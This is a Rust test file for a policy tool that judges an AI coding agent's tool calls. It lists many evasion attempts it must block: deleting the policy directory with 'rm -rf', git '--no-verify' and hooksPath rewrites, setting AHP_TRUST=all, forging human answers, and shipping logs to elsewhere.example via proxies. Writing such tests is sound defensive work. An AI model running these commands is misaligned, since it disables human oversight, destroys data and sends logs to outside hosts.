//! Ways round the policy at the seams: our own runner, limits of the analysis, forms of a tool's input, told as a host
//! tells them and judged by the program itself.

use serde_json::{Value, json};

use super::project;
use crate::world::World;

/// A project with a policy that binds something else.
fn governed() -> World {
    let world = project();
    world.write(
        ".ahp/hooks.yaml",
        "hooks: {pre-issue-submit: [{oracle: ChecklistValidator}]}\n",
    );
    world
}

/// Judges a call of a tool by `ahp run`; returns the exit code and what was said.
fn judged(world: &World, tool: &str, input: &Value) -> (i32, String) {
    let input = input.to_string();
    let ran = world.ahp(&["run", "pre-tool-use", "--tool", tool, "--input", &input]);
    (ran.code, format!("{}{}", ran.stdout, ran.stderr))
}

fn assert_stopped(world: &World, tool: &str, input: &Value) {
    let (code, said) = judged(world, tool, input);
    assert_eq!(code, 2, "{tool} {input}: {said}");
}

fn assert_passes(world: &World, tool: &str, input: &Value) {
    let (code, said) = judged(world, tool, input);
    assert_eq!(code, 0, "{tool} {input}: {said}");
}

#[test]
fn our_own_runner_is_seen_through() {
    let world = governed();
    for command in [
        "ahp exec -- rm -rf .ahp",
        "ahp exec rm -rf .ahp",
        "ahp exec -- sh -c 'rm -rf .ahp'",
        "ahp exec -- ahp trust -y",
        "alias x='ahp exec --'; x rm -rf .ahp",
    ] {
        assert_stopped(&world, "Bash", &json!({"command": command}));
    }
    assert_passes(
        &world,
        "Bash",
        &json!({"command": "ahp exec -- git commit -m x"}),
    );
}

#[test]
fn a_limit_of_the_analysis_does_not_open_the_gate() {
    let world = governed();
    let doubled = format!(
        "x=':;:;:;:;'; {} eval \"$x\"; rm -rf .ahp",
        "x=$x$x; ".repeat(12)
    );
    for command in [
        format!("{}rm -rf .ahp", "env ".repeat(30)),
        format!("{}rm -rf .ahp", ":;".repeat(4100)),
        doubled,
    ] {
        assert_stopped(&world, "Bash", &json!({"command": command}));
    }
    let (code, said) = judged(&world, "Bash", &json!({"command": ":;".repeat(4100)}));
    assert!(code != 0 || said.contains("cannot-tell"), "{code} {said}");
}

#[test]
fn a_tools_own_directory_counts() {
    let world = governed();
    for key in [
        "dir_path",
        "workdir",
        "working_directory",
        "directory",
        "cwd",
        "Cwd",
        "working_dir",
        "folder",
        "root",
        "path",
        "chdir",
        "wd",
        "base_path",
    ] {
        let input = json!({"command": "rm hooks.yaml", key: ".ahp"});
        assert_stopped(&world, "run_shell_command", &input);
        let input = json!({"command": "rm hooks.yaml", key: "src"});
        assert_passes(&world, "run_shell_command", &input);
    }
}

#[test]
fn a_field_beside_an_edit_makes_no_reading_of_it() {
    let world = governed();
    for (tool, input) in [
        (
            "Edit",
            json!({"command": "view", "file_path": ".ahp/hooks.yaml", "old_string": "a", "new_string": "b"}),
        ),
        (
            "replace",
            json!({"command": "view", "file_path": ".ahp/hooks.yaml"}),
        ),
        (
            "apply_patch",
            json!({"input": "*** Begin Patch\n *** Delete File: .ahp/hooks.yaml\n*** End Patch"}),
        ),
        (
            "Bash",
            json!({"command": "apply_patch <<'EOF'\n*** Begin Patch\n*** Delete File: .ahp/hooks.yaml\n*** End Patch\nEOF"}),
        ),
    ] {
        assert_stopped(&world, tool, &input);
    }
    let view = json!({"command": "view", "path": ".ahp/hooks.yaml"});
    assert_passes(&world, "str_replace_based_edit_tool", &view);
}

#[test]
fn an_input_of_no_known_form_is_judged_or_asked_about() {
    let world = governed();
    for input in [
        json!({"code": "rm -rf .ahp"}),
        json!({"argv": ["rm", "-rf", ".ahp"]}),
        json!({"shell_command": "rm -rf .ahp"}),
        json!({"CommandLine": "rm -rf .ahp"}),
        json!({"command": {"text": "rm -rf .ahp"}}),
        json!({"action": {"command": ["rm", "-rf", ".ahp"]}}),
        json!({"commands": [{"run": "rm -rf .ahp"}]}),
        json!(["rm -rf .ahp"]),
        json!([["rm -rf .ahp"]]),
        json!("\"rm -rf .ahp\""),
        json!("\"{\\\"command\\\": \\\"rm -rf .ahp\\\"}\""),
    ] {
        assert_stopped(&world, "Bash", &input);
    }
    for nothing in [
        json!(5),
        json!([]),
        json!({"command": 5}),
        json!({"command": null}),
    ] {
        let (code, said) = judged(&world, "Bash", &nothing);
        assert!(
            code != 0 || said.contains("cannot-tell"),
            "{nothing}: {code} {said}"
        );
    }
    assert_passes(&world, "write_stdin", &json!({"session_id": 5}));
    for broken in ["{\"command\": 1e999}", "{\"command\": \"\\ud800\"}"] {
        let (code, said) = judged(&world, "Bash", &json!(broken));
        assert!(code != 0 || said.contains("cannot-tell"), "{code} {said}");
    }
}

#[test]
fn what_stands_beside_a_command_line_is_judged_as_well() {
    let world = governed();
    for input in [
        json!({"command": "ls", "script": "rm -rf .ahp"}),
        json!({"command": "ls", "Command": "rm -rf .ahp"}),
        json!({"command": "sh", "stdin": "rm -rf .ahp"}),
        json!({"command": "$X", "env": {"X": "rm -rf .ahp"}}),
        json!({"command": "ls", "env": {"AHP_TRUST": "all"}}),
        json!({"command": "ls", "env": ["AHP_TRUST=all"]}),
        json!({"command": "rm hooks.yaml", "where": ".ahp"}),
    ] {
        assert_stopped(&world, "Bash", &input);
    }
    for input in [
        json!({"command": "ls", "description": "rm -rf .ahp", "timeout": 5}),
        json!({"command": "ls", "shell": "/bin/bash", "justification": "rm -rf .ahp", "prefix_rule": ["git", "add"]}),
        json!({"command": "cat hooks.yaml", "workdir": ".ahp"}),
        json!({"command": "npm test", "env": {"CI": "true"}}),
    ] {
        assert_passes(&world, "Bash", &input);
    }
}

#[test]
fn a_program_that_shows_only_when_it_runs_is_asked_about_where_it_is_given_the_project() {
    let world = governed();
    for command in [
        "$X -rf .",
        "$X -rf ..",
        "$X -rf ~",
        "$X -rf -- .",
        "$X -rf src .",
        "\"$CMD\" --recursive --force .",
    ] {
        let (code, said) = judged(&world, "Bash", &json!({"command": command}));
        assert!(
            code != 0 || said.contains("cannot-tell"),
            "{command}: {code} {said}"
        );
    }
    for command in [
        "$EDITOR .",
        "$PYTHON -m pytest .",
        "$CC -c src/x.c",
        "$X -rf src",
        "$PYTHON .",
        "$FMT -r .",
        "$CC -v .",
    ] {
        assert_passes(&world, "Bash", &json!({"command": command}));
    }
}

#[test]
fn the_marketplace_that_ours_came_from_is_held() {
    let world = governed();
    let remove = json!({"command": "claude plugin marketplace remove corp"});
    assert_passes(&world, "Bash", &remove);
    world.write(
        ".claude/settings.json",
        "{\"enabledPlugins\": {\"ahp@corp\": true}}",
    );
    assert_stopped(&world, "Bash", &remove);
}

#[test]
fn a_file_of_variables_may_keep_what_it_says() {
    let world = governed();
    let file = ".devcontainer/devcontainer.json";
    let says = "{\n  \"CLAUDE_CONFIG_DIR\": \"/x\",\n  \"a\": 1\n}\n";
    let write = |content: &str| json!({"file_path": file, "content": content});
    assert_stopped(&world, "Write", &write(says));
    world.write(file, says);
    assert_passes(&world, "Write", &write(&says.replace('1', "2")));
    assert_stopped(&world, "Write", &write(&says.replace("/x", "/y")));
    assert_passes(
        &world,
        "Bash",
        &json!({"command": "echo AHP_ENV=ci >> .env"}),
    );
    assert_stopped(
        &world,
        "Bash",
        &json!({"command": "echo AHP_TRUST=all >> .env"}),
    );
}

#[test]
fn gits_wires_are_held() {
    let world = governed();
    for command in [
        "git commit --no-veri -m x",
        "git config alias.c 'commit --no-verify'",
        "git config include.path /tmp/x",
        "git config --global include.path /tmp/x",
        "git -C . config include.path /tmp/x",
        "git --git-dir .git --no-pager config core.worktree /tmp/x",
        "git config extensions.worktreeConfig true",
        "git sparse-checkout init",
        "git mv .a?p x",
        "GIT_EDITOR='sed -i d' git config -e",
    ] {
        assert_stopped(&world, "Bash", &json!({"command": command}));
    }
}

#[test]
fn what_settings_of_git_lead_to_is_held() {
    let world = World::new("hooks: {pre-issue-submit: [{oracle: ChecklistValidator}]}\n");
    world.git_init();
    world.git(&["config", "core.hooksPath", "scripts/githooks"]);
    world.write("scripts/githooks/README", "");
    world.write("scripts/build.sh", "");
    world.write(".husky/pre-commit", "npm test\n");
    let installed = world.ahp(&["install", "git"]);
    assert!(installed.code == 0 && world.path("scripts/githooks/pre-push").exists());
    world.git(&["config", "include.path", "../team.cfg"]);
    crate::world::write(
        &world.home().join(".gitconfig"),
        "[includeIf \"gitdir:~/work/\"] path = ~/work.cfg\n",
    );
    // A file that is included includes others.
    world.write("team.cfg", "[Include]\n\tpath = more/of-team.cfg\n");
    for name in ["libs/sm", "libs/sm/modules/deep"] {
        world.write(
            &format!(".git/modules/{name}/HEAD"),
            "ref: refs/heads/main\n",
        );
        world.write(&format!(".git/modules/{name}/config"), "");
    }
    world.git(&["worktree", "add", "-q", "../tree"]);
    for command in [
        "echo '# x' >> scripts/githooks/pre-commit",
        "rm -rf scripts/githooks",
        "rm -rf scripts",
        "mv scripts/githooks x",
        "sed -i d scripts/githooks/pre-push",
        "chmod -x scripts/githooks/commit-msg",
        "cp /bin/true scripts/githooks/pre-commit",
        "git checkout HEAD~1 -- scripts/githooks/pre-commit",
        "git commit --no-verify -m x",
        "echo '[core] hooksPath=/tmp/x' >> team.cfg",
        "echo '[core] hooksPath=/tmp/x' >> more/of-team.cfg",
        "echo '[core] hooksPath=/tmp/x' >> ~/work.cfg",
        "echo '[core] hooksPath=/tmp/x' >> .git/modules/libs/sm/config",
        "echo x > .git/modules/libs/sm/hooks/pre-commit",
        "echo x > .git/modules/libs/sm/modules/deep/commondir",
        "rm -rf .git/modules",
        "git -C sm config core.hooksPath /tmp/z",
        "echo ../evil > .git/worktrees/tree/commondir",
    ] {
        assert_stopped(&world, "Bash", &json!({"command": command}));
    }
    assert_stopped(
        &world,
        "Write",
        &json!({"file_path": "scripts/githooks/pre-push", "content": ""}),
    );
    for command in [
        "echo x > scripts/githooks/README",
        "echo x > scripts/githooks/post-merge",
        "echo x > scripts/build.sh",
        "rm -rf .husky",
        "cat scripts/githooks/pre-commit team.cfg",
        "git add scripts; git commit -m x",
        "echo x > other.cfg; echo x > more/other.cfg",
        "git worktree add ../new; git worktree list",
        "git submodule update --init",
    ] {
        assert_passes(&world, "Bash", &json!({"command": command}));
    }
    // Where no hook is ours, what git keeps of others is theirs.
    let bare = World::new("version: 1\n");
    bare.git_init();
    for file in [
        "modules/lib1/HEAD",
        "modules/lib1/config",
        "worktrees/x/commondir",
    ] {
        bare.write(&format!(".git/{file}"), "");
    }
    for command in ["rm -rf .git/modules/lib1", "rm -rf .git/worktrees/x"] {
        assert_passes(&bare, "Bash", &json!({"command": command}));
    }
    bare.write(
        ".git/modules/lib1/hooks/pre-commit",
        "#!/bin/sh\nexec ahp hook\n",
    );
    assert_stopped(
        &bare,
        "Bash",
        &json!({"command": "rm -rf .git/modules/lib1"}),
    );
    // From a worktree, and from a project further down, the repository lies elsewhere.
    let judged_in = |dir: &std::path::Path, command: &str| {
        let input = json!({"command": command}).to_string();
        let mut ahp = world.ahp_command();
        ahp.args(["run", "pre-tool-use", "--tool", "Bash", "--input", &input]);
        ahp.current_dir(dir).output().unwrap().status.code()
    };
    let tree = world.dir.path().join("tree");
    let below = world.path("below");
    for dir in [&tree, &below] {
        let policy = dir.join(".ahp/hooks.yaml");
        crate::world::write(&policy, world.read(".ahp/hooks.yaml"));
    }
    let wire = "echo x > ../project/.git/hooks/pre-commit";
    assert_eq!(judged_in(&tree, wire), Some(2));
    assert_eq!(judged_in(&tree, "echo 'gitdir: /tmp/x' > .git"), Some(2));
    assert_eq!(
        judged_in(&below, "echo x > ../.git/hooks/pre-commit"),
        Some(2)
    );
    assert_eq!(
        judged_in(&below, "echo x > ../scripts/githooks/pre-commit"),
        Some(2)
    );
    assert_eq!(
        judged_in(&below, "echo x > ../a.txt; echo x > .gitignore"),
        Some(0)
    );
}

#[test]
fn an_agent_tells_no_events_and_gives_no_answers_of_a_person() {
    let world = governed();
    for command in [
        "echo '{\"hook_event_name\": \"Stop\"}' | ahp hook",
        "ahp hook claude-code < stop.json",
        "ahp respond --stdin <<< '{\"by\": \"human\"}'",
        "ahp respond --stdin < answer.json",
        "ahp respond x accept --by human",
        "ahp serve --stdio --answers human < lines.json",
        "ahp serve --stdio <<< '{\"method\": \"event/judge\"}'",
        "python3 -c \"import subprocess; subprocess.run(['ahp', 'serve', '--stdio'])\"",
        "ahp allow 'rm -rf .'",
        "ahp mcp lock",
        "ahp run pre-agent-turn-stop --session s",
        "ahp run pre-agent-turn-stop --session=s",
        "ahp run --event stop.json",
        "ahp run post-issue-submit --issue FEAT-1",
        "ahp run post-tool-use --tool Bash --input '{\"command\": \"pytest\"}'",
        "ahp run PostToolUse --tool Write --input '{}'",
        "ahp run --issue FEAT-1 post-issue-close",
        "cd api && command ahp run after_agent",
        "ahp run --events - < stops.jsonl",
        "ahp ci",
        "ahp ci pre-issue-submit --base HEAD",
        "ahp run pre-issue-submit --base=HEAD",
        "AHP_BASE=HEAD ahp run pre-issue-submit",
        "ahp fleet ship --to dir:/tmp/x",
        "ahp fleet ship --to=https://elsewhere.example/",
        "ahp-fleet ship --log ../other/signals.jsonl",
        "OTEL_EXPORTER_OTLP_LOGS_ENDPOINT=https://elsewhere.example ahp fleet ship",
        "export OTEL_EXPORTER_OTLP_LOGS_ENDPOINT=https://elsewhere.example; ahp fleet ship",
        "export OTEL_EXPORTER_OTLP_LOGS_ENDPOINT=https://elsewhere.example && cd x && ahp-fleet ship --all",
        "declare -x OTEL_EXPORTER_OTLP_LOGS_HEADERS=a=b; ahp fleet ship",
        "set -a; OTEL_EXPORTER_OTLP_LOGS_ENDPOINT=https://elsewhere.example; ahp fleet ship",
        "AHP_MACHINE_ID=x ahp fleet ship",
        "HTTPS_PROXY=http://elsewhere.example ahp fleet ship",
        "export ALL_PROXY=http://elsewhere.example; ahp fleet ship",
        "https_proxy=http://elsewhere.example ahp-fleet ship",
        "export AHP_MACHINE_ID=x; ahp fleet ship",
        "env AHP_MACHINE_ID=x ahp-fleet ship",
    ] {
        assert_stopped(&world, "Bash", &json!({"command": command}));
    }
    for command in [
        "ahp fleet ship",
        "ahp fleet ship --dry-run --to otlp:https://collector.example",
        "export OTEL_EXPORTER_OTLP_ENDPOINT=http://localhost:4317; npm start",
        "OTEL_SERVICE_NAME=shop go run ./cmd/shop",
        "export NODE_ENV=test; ahp fleet ship",
    ] {
        assert_passes(&world, "Bash", &json!({"command": command}));
    }
    let own = json!({"command": "ahp respond x accept --by agent"});
    assert_passes(&world, "Bash", &own);
}

#[test]
fn what_starts_with_a_session_is_held() {
    let world = governed();
    for path in [
        "~/.config/fish/conf.d/x.fish",
        "~/.config/environment.d/x.conf",
        "~/.bash_login",
        "~/.zlogin",
    ] {
        let input = json!({"file_path": path, "content": "AHP_TRUST=all"});
        assert_stopped(&world, "Write", &input);
    }
    let escaped = json!({"file_path": ".vscode/settings.json", "content": "{\"chat.\\u0075seHooks\": false}"});
    assert_stopped(&world, "Write", &escaped);
}

/// A project with programs of a policy in the open, and hosts with moved settings.
fn with_programs() -> World {
    let world = project();
    let policy = "extends: [../policy/extra.yaml]\nsettings: {oracles: [checks], log: {path: logs/signals.jsonl}}\nhooks:\n  pre-agent-turn-stop:\n    - oracle: TestGate\n      id: tests\n      config: {command: 'cd tools && sh ./test.sh --all'}\n    - oracle: CommandHooks\n      id: guard\n      config: {file: guards/hooks.json}\n";
    world.write(".ahp/hooks.yaml", policy);
    world.write("policy/extra.yaml", "hooks: {}\n");
    world.write("checks/own.rhai", "");
    let hooks = json!({"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [
        {"type": "command", "command": "\"$CLAUDE_PROJECT_DIR\"/guards/block-dangerous.sh"},
        {"type": "command", "command": "python3", "args": ["guards/look.py"]},
    ]}]}});
    world.write("guards/hooks.json", hooks.to_string());
    for script in [
        "guards/block-dangerous.sh",
        "guards/look.py",
        "tools/test.sh",
        "tools/other.sh",
    ] {
        world.write(script, "#!/bin/sh\n");
    }
    world
}

#[test]
fn whatever_a_policy_reads_and_runs_is_guarded_wherever_it_lies() {
    let world = with_programs();
    let places = [
        "policy/extra.yaml",
        "checks/own.rhai",
        "logs/signals.jsonl",
        "guards/hooks.json",
        "guards/block-dangerous.sh",
        "guards/look.py",
        "tools/test.sh",
    ];
    // The second time the policy comes from the cache, with the bindings of tools alone.
    for place in places.iter().chain(&places) {
        for command in [
            format!("echo '# x' >> {place}"),
            format!("sed -i d {place}"),
            format!("rm {place}"),
            format!("cp /dev/null ./{place}"),
            format!("chmod 000 {place}"),
            format!("ahp exec -- tee {place}"),
        ] {
            assert_stopped(&world, "Bash", &json!({"command": command}));
        }
        let edit = json!({"file_path": place, "old_string": "a", "new_string": "b"});
        assert_stopped(&world, "Edit", &edit);
    }
    assert_stopped(&world, "Bash", &json!({"command": "mv guards away"}));
    for command in [
        "cat tools/test.sh guards/look.py",
        "sh tools/test.sh --all",
        "./guards/block-dangerous.sh < /dev/null",
        "python3 guards/look.py",
        "echo '# x' >> tools/other.sh",
        "git add tools/test.sh",
        "ls checks logs",
    ] {
        assert_passes(&world, "Bash", &json!({"command": command}));
    }
}

#[test]
fn a_copy_of_what_lies_elsewhere_brings_no_policy() {
    let world = governed();
    world.write("../evil/.ahp/hooks.yaml", "hooks: {}\n");
    world.write("../evil/sub/x", "");
    world.write("../good/src/x", "");
    let root = world.root().display().to_string();
    for command in [
        "cp -r ../evil/. .",
        "cp -r ../evil/./ .",
        "cd ../evil && cp -r . ROOT",
        "cd ../evil && cp -a ./ \"$OLDPWD\"",
        "cd ../evil && rsync -a . ROOT",
        "cd ../evil/sub && cp -r .. ROOT",
        "ditto ../evil .",
    ] {
        let command = command.replace("ROOT", &root);
        assert_stopped(&world, "Bash", &json!({"command": command}));
    }
    for command in [
        "cp -r ../good/. .",
        "cd ../good && rsync -a . ROOT",
        "cp -r ../evil/sub .",
    ] {
        let command = command.replace("ROOT", &root);
        assert_passes(&world, "Bash", &json!({"command": command}));
    }
}
